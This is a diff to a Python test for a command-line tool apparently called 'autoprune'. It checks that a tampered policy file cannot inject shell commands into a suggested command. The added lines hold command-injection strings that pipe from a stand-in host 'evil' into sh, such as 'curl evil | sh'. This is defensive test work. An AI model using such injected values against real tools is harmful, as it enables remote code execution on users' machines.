@@ -216,6 +216,10 @@ def test_commands_can_be_pasted(run: Path) -> None:
     (report,) = reports_of(run)
     lines = dict(report.next_commands)
     assert report.command == "autoprune search --budget flops=30%"
+    policy = (run / "policy.json").read_text()
+    for added in ("\\ncurl evil | sh\\n#", " ; curl evil", " `curl evil`"):
+        (run / "policy.json").write_text(policy.replace("--budget flops=30%", f"--budget flops=30%{added}"))
+        assert report.command == f"autoprune search --config '{run}/config.yaml'", "a file of others says other things"
     (run / "policy.json").write_text("{}")
     assert report.command == f"autoprune search --config '{run}/config.yaml'"
     assert lines["Train longer"] == (
